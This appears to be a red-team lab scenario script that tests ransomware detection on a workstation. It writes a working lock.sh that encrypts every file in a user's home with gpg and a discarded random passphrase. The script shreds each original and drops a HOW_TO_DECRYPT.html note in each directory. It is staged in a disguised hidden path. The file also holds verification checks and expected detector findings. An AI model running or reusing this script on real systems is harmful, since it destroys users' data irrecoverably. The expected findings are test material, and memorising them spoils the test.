# gpg in a shell loop with shred of the originals, run by bob in his own session (no sudo) on his
# workstation; HOW_TO_DECRYPT.html in every directory hit.
HOST=ws-bob.corp.example
SUMMARY="Attack: bash loop running gpg --symmetric on every file of bob's home (bob's own session, no sudo), shred -u of each original, HOW_TO_DECRYPT.html per directory."
targets() { find "$RT_ROOT/home/bob" -type f -not -path '*/.*'; }

scenario_prepare() {
    rt_note_html > "$RT_DROP/note.html"
    cat > "$RT_DROP/lock.sh" <<'SH'
#!/bin/bash
P=$(head -c 32 /dev/urandom | base64)
find /srv/rt-lab/home/bob -type f -not -path '*/.*' > /var/tmp/.font-cache/l
while read -r f; do
  gpg --batch --yes --quiet --pinentry-mode loopback --no-symkey-cache --passphrase "$P" \
      --symmetric --cipher-algo AES256 -o "$f.gpg" "$f" && shred -u "$f"
  d=$(dirname "$f"); [ -f "$d/HOW_TO_DECRYPT.html" ] || cp /var/tmp/.font-cache/note.html "$d/HOW_TO_DECRYPT.html"
done < /var/tmp/.font-cache/l
rm -f /var/tmp/.font-cache/l
SH
    chmod 755 "$RT_DROP/lock.sh"
    targets | sort > "$RT_OPT.targets"
    N_FILES=$(wc -l < "$RT_OPT.targets"); N_DIRS=$(rt_count_dirs < "$RT_OPT.targets")
}
scenario_run() {
    rt_attack as_login bob "cd ~/Projects && ls && bash /var/tmp/.font-cache/lock.sh; gpgconf --kill all"
}
scenario_verify() {
    rt_check encrypted "$(find "$RT_ROOT/home/bob" -name '*.gpg' | wc -l)" "$N_FILES" &&
    rt_check notes "$(find "$RT_ROOT" -name HOW_TO_DECRYPT.html | wc -l)" "$N_DIRS" &&
    rt_check originals-left "$(targets | grep -vc -e '\.gpg$' -e 'HOW_TO_DECRYPT.html$' || true)" 0
}
scenario_truth() {
    cat <<Y
expected:
  - rootExe: /usr/bin/bash
    rootCommandContains: "lock.sh"
    loginUser: bob
    runAsUser: bob
    filesAffected: $N_FILES
    overwrite: new-file-then-delete
    newExtension: .gpg
    notes: { name: HOW_TO_DECRYPT.html, directories: $N_DIRS }
    tools: [gpg, shred]
    targetRoots: [/srv/rt-lab/home/bob]
Y
}
scenario_cleanup() { runuser -u bob -- gpgconf --kill all 2>/dev/null; rm -f "$RT_OPT.targets"; }
